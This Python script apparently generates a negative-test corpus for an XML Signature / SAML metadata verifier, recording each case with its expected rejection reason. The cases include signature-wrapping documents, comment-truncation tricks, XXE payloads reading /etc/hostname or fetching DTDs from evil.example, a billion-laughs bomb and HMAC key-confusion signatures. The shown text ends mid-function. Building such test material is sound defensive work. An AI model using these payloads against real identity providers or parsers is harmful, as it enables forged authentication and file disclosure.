#!/usr/bin/env python3
"""Makes the attack corpus of this folder: one file for each attack, and attacks.tsv, which says what must be answered.

It signs with the keys of ../xml/keys, most with the key that is trusted: what is refused is then refused for the reason
that is named and not because a signature does not match. Needs what ../xml/make.py needs.
"""

import base64
import hashlib
import hmac
import pathlib
import re
import shutil
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "xml"))
from make import *  # noqa: E402,F403
import make as tools  # noqa: E402

HERE = pathlib.Path(__file__).resolve().parent

EC, RSA = MORE + "ecdsa-sha256", MORE + "rsa-sha256"
ROWS = []

SAML = "Somorovsky et al., On Breaking SAML, USENIX Security 2012"
MCINTOSH = "McIntosh and Austel, XML Signature Element Wrapping Attacks, 2005"
BEST = "W3C, XML Signature Best Practices, 2013"
SPEC = "W3C, XML Signature 1.1"
NAMES = "Namespaces in XML 1.0"
FRAGILE = "PortSwigger, The Fragile Lock, 2025"

DOCUMENT, SIGNATURE, MISMATCH, UNKNOWN = "malformed-document", "malformed-signature", "signature-mismatch", "key-unknown"
NO_FIRST = "none"


def attack(name, content, reason, found, source, format="saml-metadata", key="ec-p256"):
    if isinstance(content, str):
        content = content.encode()
    path = HERE / "documents" / f"{name}.xml"
    assert not path.exists(), name
    path.write_bytes(content)
    ROWS.append("\t".join([f"{name}.xml", format, key, reason, found, source]))


def accepted(name, content, source, **options):
    attack(name, content, "accepted", "-", source, **options)


def swap(text, old, new, count=1):
    assert text.count(old) >= 1, f"{old!r} does not stand there"
    return text.replace(old, new, count)


def sign(document, method=EC, references=None, key="ec-p256", ids=("ID:EntityDescriptor", "ID:EntitiesDescriptor"), **options):
    """Signs with xmlsec1 where {signature} stands."""
    made = signature(method, references or reference("#_e1"), **options)
    return xmlsec1(document.replace("{signature}", made), key, ids).decode()


ENTITY = tools.ENTITY
GENERIC_IDS = [f"{name}:urn:example:feed:feed" for name in IDS]


def element(text, name):
    """The first element of this name, as text."""
    return re.search(rf"<{name}[ >].*?</{name}>", text, re.S).group(0)


def root_of(text):
    return text[text.index("<md:"):].rstrip("\n")


# ------------------------------------------------------------------------------------------------------------ wrapping


def wrapping():
    """The eight shapes of Somorovsky et al. (XSW1 to XSW8 of SAML Raider), by reference type and by the ID of the evil
    element, for an entity that is the document and for one within a list."""
    for kind, uri in [("id", "#_e1"), ("whole", "")]:
        signed = sign(ENTITY, references=reference(uri))
        original = root_of(signed)
        made = element(original, "ds:Signature")
        bare = original.replace(made, "")
        for twin, change in {
            "other-id": ('ID="_e1"', 'ID="_evil"'), "same-id": ('ID="_e1"', 'ID="_e1"'), "lower-id": ('ID="_e1"', 'ID="_evil" id="_e1"'),
            "xml-id": ('ID="_e1"', 'ID="_evil" xml:id="_e1"'), "foreign-id": ('ID="_e1"', 'ID="_evil" mdrpi:ID="_e1"'),
        }.items():
            evil = swap(bare, *change).replace("https://idp.example/", "https://evil.example/")
            start, rest = re.match(r"(<md:EntityDescriptor[^>]*>)(.*)", evil, re.S).groups()
            body = rest[: rest.rindex("</md:EntityDescriptor>")]
            end = "</md:EntityDescriptor>"
            within = lambda into: swap(made, "</ds:Signature>", into + "</ds:Signature>")
            names_root = kind == "id" and twin == "same-id"
            # Where the reference names the evil root, the ID stands twice; where it names the original, it is not the
            # document; where it names the document, the digest differs.
            def answer(in_signature=False):
                if kind == "whole":
                    return MISMATCH, "a signature that does not match"
                if names_root:
                    return DOCUMENT, "the ID of the document element on another element"
                return SIGNATURE, 'one to "#_e1"'

            name = lambda shape: f"wrapping-{shape}-{kind}-{twin}"
            # XSW1 and XSW6: the original in the signature, the evil element around it.
            attack(name("1-original-in-signature"), start + within(bare) + body + end, SIGNATURE, "[ds:SignedInfo, ds:SignatureValue, ds:KeyInfo, md:EntityDescriptor]", SAML)
            # XSW2: the original before the signature.
            attack(name("2-original-before-signature"), start + bare + made + body + end, DOCUMENT, NO_FIRST, SAML)
            # XSW3: the original behind the signature.
            attack(name("3-original-after-signature"), start + made + bare + body + end, *answer(), SAML)
            # XSW4: the evil element around the original with its signature.
            attack(name("4-original-with-signature-inside"), start + original + body + end, DOCUMENT, NO_FIRST, SAML)
            # XSW5: the original, without signature, at the end of the evil element, which has the signature.
            attack(name("5-original-last"), start + made + body + bare + end, *answer(), SAML)
            # XSW7: the original in Extensions.
            attack(name("7-original-in-extensions"), start + made + f"<md:Extensions>{bare}</md:Extensions>" + body + end, *answer(), SAML)
            # XSW8: the original in an Object of the signature.
            attack(name("8-original-in-object"), start + within(f"<ds:Object>{bare}</ds:Object>") + body + end, SIGNATURE, "md:EntityDescriptor", SAML)
            attack(name("9-original-in-key-info"), start + swap(made, "</ds:KeyInfo>", bare + "</ds:KeyInfo>") + body + end, SIGNATURE, "md:EntityDescriptor", MCINTOSH)
            attack(name("10-original-in-signature-value"), start + swap(made, "</ds:SignatureValue>", bare + "</ds:SignatureValue>") + body + end, SIGNATURE, "elements in ds:SignatureValue", MCINTOSH)
            attack(name("11-original-in-unsigned-properties"), start + swap(within(
                f'<ds:Object><x:QualifyingProperties xmlns:x="{XADES}" Target="#s"><x:SignedProperties Id="p"/><x:UnsignedProperties>{bare}'
                "</x:UnsignedProperties></x:QualifyingProperties></ds:Object>"), "<ds:Signature ", '<ds:Signature Id="s" ') + body + end,
                SIGNATURE, "md:EntityDescriptor", MCINTOSH)

        # The same within a list that is not signed itself.
        evil = swap(bare, 'ID="_e1"', 'ID="_evil"').replace("https://idp.example/", "https://evil.example/")
        with_signature = evil.replace(re.match(r"<md:EntityDescriptor[^>]*>", evil).group(0), re.match(r"<md:EntityDescriptor[^>]*>", evil).group(0) + made)
        holding = lambda inner: re.sub(r"</md:EntityDescriptor>$", lambda _: inner + "</md:EntityDescriptor>", evil)
        for shape, content in {
            "1-signature-around-original": evil.replace("</md:Organization>", "</md:Organization>" + swap(made, "</ds:Signature>", bare + "</ds:Signature>")),
            "2-detached": evil + bare + made, "3-evil-first": evil + original, "3-evil-last": original + evil,
            "4-evil-around": holding(original), "5-signature-in-evil": with_signature + bare,
            "6-signature-in-evil-around-original": holding(swap(made, "</ds:Signature>", bare + "</ds:Signature>")),
            "7-in-extensions": f"<md:Extensions>{evil}</md:Extensions>{original}",
            "8-in-object": holding(swap(made, "</ds:Signature>", f"<ds:Object>{bare}</ds:Object></ds:Signature>")),
        }.items():
            for twin in ["", ' ID="_e1"'] if kind == "id" else [""]:
                document = f'<md:EntitiesDescriptor xmlns:md="{MD}" xmlns:ds="{DS}"{twin}>{content}</md:EntitiesDescriptor>'
                attack(f"wrapping-list-{shape}-{kind}{'-list-has-the-id' * bool(twin)}", document, DOCUMENT, NO_FIRST, SAML)
        # The signature moved up to the list.
        document = f'<md:EntitiesDescriptor xmlns:md="{MD}" ID="_list">{made}{bare}{evil}</md:EntitiesDescriptor>'
        attack(f"wrapping-list-signature-moved-up-{kind}", document, *((SIGNATURE, 'one to "#_e1"') if kind == "id" else (MISMATCH, "")), SAML)

    # The same shapes where the signature may stand anywhere.
    for kind, uri in [("id", "#x1"), ("whole", "")]:
        text = ANYTHING.format(id=' ID="x1"', first="", middle="", last="{signature}")
        signed = sign(text, references=reference(uri), ids=GENERIC_IDS)
        made = element(signed, "ds:Signature")
        original = signed[signed.index("<feed"):].rstrip()
        bare = original.replace(made, "")
        mismatch = (MISMATCH, "a signature that does not match")
        other = (SIGNATURE, 'one to "#x1"') if kind == "id" else mismatch
        twice = (DOCUMENT, "the ID of the document element on another element") if kind == "id" else mismatch
        for shape, content, answer in [
            ("evil-around", f'<feed xmlns="urn:example:feed">{original}</feed>', (DOCUMENT, NO_FIRST)),
            ("evil-with-signature", f'<feed xmlns="urn:example:feed" ID="evil">{bare}{made}</feed>', other),
            ("evil-with-signature-first", f'<feed xmlns="urn:example:feed" ID="evil">{made}{bare}</feed>', other),
            ("evil-with-the-same-id", f'<feed xmlns="urn:example:feed" ID="x1">{bare}{made}</feed>', twice),
            ("evil-with-lower-id", f'<feed xmlns="urn:example:feed" id="x1">{bare}{made}</feed>', twice),
            ("evil-with-xml-id", f'<feed xmlns="urn:example:feed" xml:id="x1">{made}{bare}</feed>', twice),
            ("original-in-object", f'<feed xmlns="urn:example:feed" ID="x1">{swap(made, "</ds:Signature>", f"<ds:Object>{bare}</ds:Object></ds:Signature>")}</feed>', (SIGNATURE, "feed")),
        ]:
            attack(f"wrapping-any-{shape}-{kind}", content, *answer, MCINTOSH, format="xmldsig")
    # The document element is the signature itself.
    attack("enveloping", element(sign(ENTITY), "ds:Signature"), DOCUMENT, "Signature of", SPEC)
    attack("enveloping-any", element(sign(ENTITY), "ds:Signature"), DOCUMENT, NO_FIRST, SPEC, format="xmldsig")


# ---------------------------------------------------------------------------------------------------- names and places


def namespaces():
    good = sign(ENTITY)
    made = element(good, "ds:Signature")
    fake = lambda uri: made.replace(f'xmlns:ds="{DS}"', f'xmlns:ds="{uri}"')
    attack("namespace-signature-in-another", swap(good, made, fake("urn:evil")), DOCUMENT, NO_FIRST, NAMES)
    attack("namespace-without-end-slash", swap(good, made, fake(DS.rstrip("#"))), DOCUMENT, NO_FIRST, NAMES)
    attack("namespace-other-case", swap(good, made, fake(DS.replace("www", "WWW"))), DOCUMENT, NO_FIRST, NAMES)
    attack("namespace-none", swap(good, made, made.replace("ds:", "").replace(f' xmlns:ds="{DS}"', "")), DOCUMENT, NO_FIRST, NAMES)
    attack("namespace-fake-before-real", swap(good, made, fake("urn:evil") + made), DOCUMENT, NO_FIRST, NAMES)
    attack("namespace-fake-after-real", swap(good, made, made + fake("urn:evil")), MISMATCH, "", NAMES)
    attack("namespace-signed-info-in-another", good.replace("<ds:SignedInfo>", '<ds:SignedInfo xmlns:ds="urn:evil">'), SIGNATURE, "", NAMES)
    attack("namespace-reference-in-another", good.replace("<ds:Reference ", '<ds:Reference xmlns:ds="urn:evil" '), SIGNATURE, "", NAMES)
    attack("namespace-digest-value-in-another", good.replace("<ds:DigestValue>", '<ds:DigestValue xmlns:ds="urn:evil">'), SIGNATURE, "", NAMES)
    attack("namespace-root-in-another", good.replace(f'xmlns:md="{MD}"', 'xmlns:md="urn:evil"'), DOCUMENT, "EntityDescriptor of", NAMES)
    attack("namespace-child-rebinds-prefix", swap(good, "<md:IDPSSODescriptor ", '<md:IDPSSODescriptor xmlns:md="urn:evil" '), MISMATCH, "", NAMES)
    attack("namespace-child-takes-default", swap(good, "<md:Organization>", '<Organization xmlns="urn:oasis:names:tc:SAML:2.0:metadata">').replace("</md:Organization>", "</Organization>"), MISMATCH, "", NAMES)
    attack("namespace-prefix-renamed", good.replace("mdrpi:", "rpi:").replace(":mdrpi", ":rpi"), MISMATCH, "", NAMES)
    attack("namespace-prefix-not-declared", swap(good, "<md:Organization>", "<md:Organization x:y='1'>"), DOCUMENT, "which is not declared", NAMES)
    attack("namespace-declared-twice", swap(good, f'xmlns:md="{MD}"', f'xmlns:md="{MD}" xmlns:md="urn:evil"'), DOCUMENT, "declared twice", NAMES)
    attack("attribute-twice", swap(good, 'ID="_e1"', 'ID="_e1" ID="_evil"'), DOCUMENT, "an attribute that stands twice", "XML 1.0")
    attack("attribute-twice-by-namespace", swap(good, 'ID="_e1"', 'ID="_e1" xmlns:o="urn:oasis:names:tc:SAML:metadata:rpi" o:x="1" mdrpi:x="2"'), DOCUMENT, "an attribute that stands twice", NAMES)
    attack("attribute-algorithm-with-prefix", re.sub(r"<ds:DigestMethod Algorithm=", "<ds:DigestMethod ds:Algorithm=", good), SIGNATURE, '"Algorithm" in ds:DigestMethod', FRAGILE)
    attack("attribute-uri-with-prefix", good.replace('<ds:Reference URI="#_e1">', '<ds:Reference ds:URI="#_e1">'), SIGNATURE, '"URI" in ds:Reference', FRAGILE)
    attack("attribute-two-uris", good.replace('<ds:Reference URI="#_e1">', '<ds:Reference URI="#_e1" ds:URI="#_evil">'), SIGNATURE, '"URI" in ds:Reference', FRAGILE)
    attack("attribute-on-signature", swap(good, "<ds:Signature ", '<ds:Signature entityID="https://evil.example/" '), SIGNATURE, '"entityID" in ds:Signature', MCINTOSH)
    attack("attribute-on-signature-value", swap(good, "<ds:SignatureValue>", '<ds:SignatureValue xml:lang="en">'), SIGNATURE, '"lang" in ds:SignatureValue', MCINTOSH)
    attack("text-in-signature", swap(good, "<ds:SignatureValue>", "evil<ds:SignatureValue>"), SIGNATURE, "text in ds:Signature", MCINTOSH)
    attack("text-in-reference", swap(good, "<ds:DigestValue>", "evil<ds:DigestValue>"), SIGNATURE, "text in ds:Reference", MCINTOSH)
    # A canonicaliser that fails on a relative namespace name may digest nothing: the digest here is that of nothing.
    empty = base64.b64encode(hashlib.sha256(b"").digest()).decode()
    void = by_hand(ENTITY.replace("{signature}", signature(EC, reference("#_e1"), key_info="")), "ec-p256", digest=empty).decode()
    attack("void-canonical-form", swap(void, "urn:example:unused", "1"), DOCUMENT, "which is no absolute URI", FRAGILE)
    attack("void-digest", void, MISMATCH, "", FRAGILE)
    # Exclusive C14N does not see declarations that no name uses; nor does anybody's.
    accepted("known-unused-declaration-changed", swap(good, "urn:example:unused", "urn:example:changed"), "W3C, Exclusive XML Canonicalization, section 4")
    accepted("known-unused-declaration-added", swap(good, "<md:Organization>", '<md:Organization xmlns:more="urn:example:more">'), "W3C, Exclusive XML Canonicalization, section 4")
    listed = sign(ENTITY, references=reference("#_e1", transform(ENVELOPED) + transform(EXCLUSIVE, "unused")))
    attack("unused-declaration-changed-but-listed", swap(listed, "urn:example:unused", "urn:example:changed"), MISMATCH, "", "W3C, Exclusive XML Canonicalization, section 4")
    inclusive = sign(ENTITY, references=reference("#_e1", transform(ENVELOPED) + transform(C14N10)))
    attack("unused-declaration-changed-but-inclusive", swap(inclusive, "urn:example:unused", "urn:example:changed"), MISMATCH, "", "W3C, Canonical XML 1.0")


def by_hand(document, key, digest=None):
    """As in ../xml/make.py, with a digest of one's own, and ECDSA values as r and s or in DER."""
    import lxml.etree
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec, padding
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
    root = lxml.etree.fromstring(document.encode())
    made = root.find(f".//{{{DS}}}Signature")
    if digest is not None:
        made.find(f".//{{{DS}}}DigestValue").text = digest
    info = lxml.etree.tostring(made.find(f"{{{DS}}}SignedInfo"), method="c14n", exclusive=True, with_comments=False)
    private = serialization.load_pem_private_key((KEYS / f"{key}.key").read_bytes(), None)
    if isinstance(private, ec.EllipticCurvePrivateKey):
        r, s = decode_dss_signature(private.sign(info, ec.ECDSA(hashes.SHA256())))
        value = r.to_bytes(32, "big") + s.to_bytes(32, "big")
    else:
        value = private.sign(info, padding.PKCS1v15(), hashes.SHA256())
    made.find(f"{{{DS}}}SignatureValue").text = base64.b64encode(value).decode()
    return lxml.etree.tostring(root, xml_declaration=True, encoding="UTF-8")


# ----------------------------------------------------------------------------------------- what canonical forms leave out


def left_out():
    good = sign(ENTITY)
    trick = "Duo, comment truncation, CVE-2017-11427 and others"
    digest_trick = "xml-crypto, comments in DigestValue, CVE-2025-29774 and CVE-2025-29775"
    places = {
        "in-text": ("Söhne", "Söhne{}evil"), "in-text-to-cut": ("Größe", "{}Größe"), "before-root": ("<md:EntityDescriptor ", "{}<md:EntityDescriptor "),
        "after-root": ("</md:EntityDescriptor>\n", "</md:EntityDescriptor>\n{}"), "in-root": ("<md:Organization>", "{}<md:Organization>"),
        "before-signature": ("<ds:Signature ", "{}<ds:Signature "), "in-digest-value": ("<ds:DigestValue>", "<ds:DigestValue>AAAA{}"),
        "in-signature-value": ("<ds:SignatureValue>", "<ds:SignatureValue>{}"), "in-signed-info": ("<ds:SignedInfo>", "<ds:SignedInfo>{}"),
        "in-key-info": ("<ds:X509Certificate>", "<ds:X509Certificate>{}"),
    }
    for place, (old, new) in places.items():
        after = place == "after-root"
        for kind, what, found in [("comment", "<!--x-->", "a comment"), ("instruction", "<?x y?>", "a processing instruction")]:
            if kind == "instruction" and place == "before-root":
                found = "a processing instruction"
            found = "something after the end of the document element" if after else found
            attack(f"{kind}-{place}", swap(good, old, new.format(what)), DOCUMENT, found, digest_trick if "value" in place else trick)
    signed_with = sign(ENTITY.replace("Größe", "Größe<!-- signed with it -->"), references=reference("#_e1", transform(ENVELOPED) + transform(EXCLUSIVE + "WithComments")))
    attack("comment-signed-with-comments", signed_with, DOCUMENT, "a comment", BEST)
    attack("stylesheet", swap(good, "?>\n", '?>\n<?xml-stylesheet href="https://evil.example/x.xsl"?>\n'), DOCUMENT, "a processing instruction", BEST)


def entities():
    good = sign(ENTITY)
    before = lambda dtd: swap(good, "?>\n", f"?>\n{dtd}\n")
    text = lambda dtd, entity: before(dtd).replace("Größe &amp; Söhne", entity)
    source = "Späth et al., SoK: XML Parser Vulnerabilities, 2016"
    found = "a document type declaration"
    for name, content in {
        "empty": before("<!DOCTYPE md:EntityDescriptor>"),
        "default-attribute": before('<!DOCTYPE r [<!ATTLIST md:SingleSignOnService ResponseLocation CDATA "https://evil.example/">]>'),
        "default-namespace": before('<!DOCTYPE r [<!ATTLIST md:EntityDescriptor xmlns CDATA "urn:evil">]>'),
        "id-attribute": before('<!DOCTYPE r [<!ATTLIST md:Organization name ID #IMPLIED>]>'),
        "internal-entity": text('<!DOCTYPE r [<!ENTITY e "evil">]>', "&e;"),
        "external-entity": text('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>', "&e;"),
        "parameter-entity": before('<!DOCTYPE r [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>'),
        "external-subset": before('<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">'),
        "billion-laughs": text('<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>', "&d;"),
        "redefines-lt": text('<!DOCTYPE r [<!ENTITY lt "evil">]>', "&lt;"),
        "lower-case": before("<!doctype r>"),
    }.items():
        attack(f"doctype-{name}", content, DOCUMENT, found, source)
    attack("doctype-inside-root", swap(good, "<md:Organization>", "<!DOCTYPE r><md:Organization>"), DOCUMENT, found, source)
    attack("entity-of-html", good.replace("Größe", "Gr&ouml;&szlig;e"), DOCUMENT, "an entity that XML itself does not have", source)
    attack("entity-unknown-in-attribute", swap(good, "https://idp.example/sso", "&sso;"), DOCUMENT, "an entity that XML itself does not have", source)
    attack("reference-to-nothing", good.replace("Größe", "&#0;"), DOCUMENT, "character reference", "XML 1.0")
    attack("reference-to-control", good.replace("Größe", "&#1;"), DOCUMENT, "character reference", "XML 1.0")
    attack("reference-to-surrogate", good.replace("Größe", "&#xD800;"), DOCUMENT, "character reference", "XML 1.0")
    attack("reference-too-large", good.replace("Größe", "&#x110000;"), DOCUMENT, "character reference", "XML 1.0")


def encodings():
    good = sign(ENTITY)
    source = "Späth et al., SoK: XML Parser Vulnerabilities, 2016"
    declared = lambda encoding: swap(good, 'encoding="UTF-8"', f'encoding="{encoding}"')
    for name, encoding in [("latin1", "ISO-8859-1"), ("ascii", "US-ASCII"), ("utf7", "UTF-7"), ("utf16", "UTF-16"), ("ebcdic", "IBM037"), ("without-dash", "UTF8")]:
        attack(f"encoding-says-{name}-is-utf8", declared(encoding), DOCUMENT, f'the encoding "{encoding}"', source)
    attack("encoding-says-utf8-is-latin1", good.encode("latin-1"), DOCUMENT, "bytes that are not UTF-8", source)
    attack("encoding-latin1-throughout", declared("ISO-8859-1").encode("latin-1"), DOCUMENT, "the encoding", source)
    for name in ["utf-16", "utf-16-le", "utf-16-be", "utf-32"]:
        attack(f"encoding-{name}", declared("UTF-16").encode(name), DOCUMENT, "a text that does not begin with <" if name != "utf-16-le" else "0x0 not allowed", source)
    attack("encoding-utf-7", good.replace("&lt;", "+ADw-"), MISMATCH, "", source)
    raw = good.encode()
    attack("encoding-overlong", raw.replace("ö".encode(), b"\xc1\xb6", 1), DOCUMENT, "bytes that are not UTF-8", "RFC 3629")
    attack("encoding-overlong-markup", raw.replace(b"&lt;", b"\xc0\xbc", 1), DOCUMENT, "bytes that are not UTF-8", "RFC 3629")
    attack("encoding-surrogates", raw.replace("ö".encode(), b"\xed\xa0\xbd\xed\xb8\x80", 1), DOCUMENT, "bytes that are not UTF-8", "RFC 3629")
    attack("encoding-nul", raw.replace("ö".encode(), b"\0", 1), DOCUMENT, "invalid codepoint", "XML 1.0")
    attack("encoding-two-marks", b"\xef\xbb\xbf\xef\xbb\xbf" + raw, DOCUMENT, "a text that does not begin with <", "XML 1.0")
    attack("xml-1.1", good.replace('version="1.0"', 'version="1.1"'), DOCUMENT, 'XML version "1.1"', "XML 1.1 has other line ends")
    attack("declaration-twice", swap(good, "?>\n", '?><?xml version="1.0"?>\n'), DOCUMENT, "a processing instruction", "XML 1.0")
    attack("declaration-late", "\n" + good, DOCUMENT, "a processing instruction", "XML 1.0")
    attack("not-xml-at-all", "{}", DOCUMENT, "a text that does not begin with <", "a server's error in JSON")
    attack("html", "<html><head><title>502</title></head><body>Bad Gateway</body></html>", DOCUMENT, "html of", "a server's error in HTML")
    attack("html-with-doctype", "<!DOCTYPE html><html></html>", DOCUMENT, "a document type declaration", "a server's error in HTML")
    attack("empty", "", DOCUMENT, "the end of the bytes", "nothing at all")
    attack("cut-short", good[: len(good) // 2 + 400], DOCUMENT, "the end of the bytes", "a connection that broke")


# ------------------------------------------------------------------------------------------------------------ tampering


def tampering():
    good = sign(ENTITY)
    source = "anything at all was changed"
    table = {
        "text": ("Größe", "Große"), "attribute": ("https://idp.example/sso", "https://evil.example/sso"), "entity-id": ("https://idp.example/saml", "https://evil.example/saml"),
        "validity": ("2035-01-01", "2045-01-01"), "white-space": ("  <md:Organization>", "   <md:Organization>"), "white-space-before-signature": ("<ds:Signature ", " <ds:Signature "),
        "element-added": ("<md:Organization>", "<md:Organization/><md:Organization>"), "attribute-added": ("<md:Organization>", '<md:Organization x="">'),
        "attribute-removed": (' xml:lang="en"', ""), "language": ('xml:lang="en"', 'xml:lang="de"'), "element-renamed": ("md:OrganizationURL", "md:OrganizationUrl"),
        "line-feed-in-attribute": ("urn:oasis:names:tc:SAML:2.0:protocol", "urn:oasis:names:tc:SAML:2.0:protocol&#10;"), "case": ("HTTP-POST", "HTTP-Post"),
    }
    for name, (old, new) in table.items():
        attack(f"tampered-{name}", swap(good, old, new, -1 if "renamed" in name else 1), MISMATCH, "a signature that does not match", source)
    attack("tampered-element-removed", good.replace(element(good, "md:Organization"), ""), MISMATCH, "", source)
    attack("tampered-order", good.replace(element(good, "md:Organization"), "").replace("  <md:IDPSSO", element(good, "md:Organization") + "\n  <md:IDPSSO"), MISMATCH, "", source)
    attack("tampered-digest", re.sub(r"<ds:DigestValue>.", "<ds:DigestValue>A" if "<ds:DigestValue>A" not in good else "<ds:DigestValue>B", good), MISMATCH, "", source)
    attack("tampered-signed-info", swap(good, "<ds:SignedInfo>", "<ds:SignedInfo> "), MISMATCH, "", source)
    attack("signature-of-another-document", swap(good, element(good, "ds:Signature"), element(sign(ENTITY.replace("Größe", "Kleine")), "ds:Signature")), MISMATCH, "", source)
    attack("signature-removed", swap(good, element(good, "ds:Signature"), ""), DOCUMENT, NO_FIRST, "Somorovsky et al., signature exclusion")
    attack("signature-emptied", swap(good, element(good, "ds:Signature"), f'<ds:Signature xmlns:ds="{DS}"/>'), SIGNATURE, "[]", "Somorovsky et al., signature exclusion")
    attack("signature-removed-any", ANYTHING.format(id="", first="", middle="", last=""), DOCUMENT, NO_FIRST, "Somorovsky et al., signature exclusion", format="xmldsig")
    # Where a parser does not normalise attributes as it should.
    feed = sign(ENTITY.replace("https://idp.example/sso", "a&#10;b"))
    attack("raw-line-feed-for-reference", swap(feed, "a&#xA;b" if "a&#xA;b" in feed else "a&#10;b", "a\nb"), MISMATCH, "", "bergshamra 0.11.1 took it; XML 1.0, section 3.3.3")
    attack("carriage-return-before-quote", swap(good, 'https://idp.example/sso"', 'https://idp.example/sso\r"'), MISMATCH, "", "rxml 0.14.0 alone loses it; XML 1.0, section 3.3.3")
    attack("carriage-return-before-tab", swap(sign(ENTITY.replace("https://idp.example/sso", "a b")), '"a b"', '"a\r\tb"'), MISMATCH, "", "rxml 0.14.0 alone loses it; XML 1.0, section 3.3.3")
    attack("carriage-return-by-reference", good.replace("Größe", "Größe&#13;"), MISMATCH, "", "XML 1.0, section 2.11")
    for name, tail, found in [("element", "<evil/>", "something after"), ("text", "evil", "something after"), ("cdata", "<![CDATA[ ]]>", "something after"), ("reference", "&#32;", "something after"), ("form-feed", "\f", "something after"), ("nul", "\0", "something after"), ("second-document", good, "something after")]:
        attack(f"after-the-end-{name}", good + tail, DOCUMENT, found, "XML 1.0, production 1")
    for name, piece in [("empty", "<![CDATA[]]>"), ("blank", "<![CDATA[ ]]>")]:
        attack(f"cdata-before-root-{name}", swap(good, "<md:EntityDescriptor ", piece + "<md:EntityDescriptor "), DOCUMENT, "a CDATA section before the document element", "XML 1.0, production 1; rxml 0.14.0 alone takes an empty one")
    attack("reference-before-root", swap(good, "<md:EntityDescriptor ", "&#32;<md:EntityDescriptor "), DOCUMENT, "a text that does not begin with <", "XML 1.0, production 1")
    attack("end-in-cdata", swap(good, "Größe", "]]>"), DOCUMENT, "invalid syntax", "XML 1.0, production 14")
    attack("tags-crossed", swap(good, "</md:IDPSSODescriptor>", "</md:Organization>"), DOCUMENT, "start and end tag do not match", "XML 1.0")
    # The same in other bytes, which is no attack.
    accepted("known-cdata-for-text", swap(good, "Größe &amp;", "<![CDATA[Größe &]]>"), "the canonical form is the same")
    accepted("known-attributes-in-another-order", swap(good, 'ID="_e1" entityID="https://idp.example/saml"', 'entityID="https://idp.example/saml" ID="_e1"'), "the canonical form is the same")


# ----------------------------------------------------------------------------------------------------------- algorithms


def algorithms():
    found_uri = lambda uri: f'"{uri}"'
    rsa = lambda method: sign(ENTITY, method, key="rsa")
    for name, method in [("rsa-sha1", DS + "rsa-sha1"), ("rsa-md5", MORE + "rsa-md5"), ("rsa-ripemd160", MORE + "rsa-ripemd160"), ("rsa-sha224", MORE + "rsa-sha224")]:
        try:
            attack(f"algorithm-{name}", rsa(method), SIGNATURE, found_uri(method), BEST, key="rsa")
        except RuntimeError:  # OpenSSL 3 has no such digest
            attack(f"algorithm-{name}", rsa(RSA).replace(RSA, method), SIGNATURE, found_uri(method), BEST, key="rsa")
    for name, method in [("ecdsa-sha1", MORE + "ecdsa-sha1"), ("ecdsa-sha224", MORE + "ecdsa-sha224")]:
        attack(f"algorithm-{name}", sign(ENTITY, method), SIGNATURE, found_uri(method), BEST)
    for name, digest in [("sha1", DS + "sha1"), ("sha224", MORE + "sha224"), ("md5", MORE + "md5")]:
        try:
            attack(f"digest-{name}", sign(ENTITY, references=reference("#_e1", digest=digest)), SIGNATURE, found_uri(digest), BEST)
        except RuntimeError:
            attack(f"digest-{name}", swap(sign(ENTITY), SHA256, digest), SIGNATURE, found_uri(digest), BEST)
    good = sign(ENTITY)
    confusion = "McLean, Critical vulnerabilities in JSON Web Token libraries, 2015, and its like in XML"
    import lxml.etree
    for name, method in [("hmac-sha1", DS + "hmac-sha1"), ("hmac-sha256", MORE + "hmac-sha256")]:
        text = re.sub(r"<ds:SignatureValue>.*?</ds:SignatureValue>", "<ds:SignatureValue>{}</ds:SignatureValue>", swap(good, EC, method), flags=re.S)
        info = lxml.etree.fromstring(text.encode()).find(f".//{{{DS}}}SignedInfo")
        canon = lxml.etree.tostring(info, method="c14n", exclusive=True, with_comments=False)
        mac = hmac.new((KEYS / "ec-p256.crt").read_bytes(), canon, name.split("-")[1]).digest()
        attack(f"algorithm-{name}-keyed-with-the-certificate", text.replace("{}", base64.b64encode(mac).decode()), SIGNATURE, found_uri(method), confusion)
    length = "<ds:HMACOutputLength>0</ds:HMACOutputLength>"
    attack("algorithm-hmac-of-no-bits", swap(good, f'<ds:SignatureMethod Algorithm="{EC}"/>', f'<ds:SignatureMethod Algorithm="{DS}hmac-sha1">{length}</ds:SignatureMethod>'), SIGNATURE, "hmac-sha1", "CVE-2009-0217")
    attack("algorithm-with-output-length", swap(good, f'<ds:SignatureMethod Algorithm="{EC}"/>', f'<ds:SignatureMethod Algorithm="{EC}">{length}</ds:SignatureMethod>'), SIGNATURE, "[ds:HMACOutputLength]", "CVE-2009-0217")
    for name, method in [("unknown", "urn:example:none"), ("none", ""), ("dsa", "http://www.w3.org/2009/xmldsig11#dsa-sha256"), ("of-a-digest", SHA256), ("with-space", EC + " "), ("without-hash", EC.replace("#", "")), ("pss-with-parameters", "http://www.w3.org/2007/05/xmldsig-more#rsa-pss")]:
        attack(f"algorithm-{name}", swap(good, EC, method), SIGNATURE, found_uri(method), BEST)
    attack("algorithm-missing", swap(good, f' Algorithm="{EC}"', ""), SIGNATURE, '""', BEST)
    for name, method in [("rsa", RSA), ("ecdsa-sha384", MORE + "ecdsa-sha384"), ("pss", "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"), ("ed25519", "http://www.w3.org/2021/04/xmldsig-more#eddsa-ed25519")]:
        attack(f"algorithm-confused-with-{name}", swap(good, EC, method), MISMATCH, "a signature that does not match", confusion)
    pss = (HERE.parent / "xml" / "good" / "signxml-rsa-pss-sha256.xml").read_text()
    attack("algorithm-pss-said-to-be-pkcs1", swap(pss, "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1", RSA), MISMATCH, "", confusion, key="rsa")

    canon = lambda uri, inside="": swap(good, f'<ds:CanonicalizationMethod Algorithm="{EXCLUSIVE}"/>', f'<ds:CanonicalizationMethod Algorithm="{uri}">{inside}</ds:CanonicalizationMethod>')
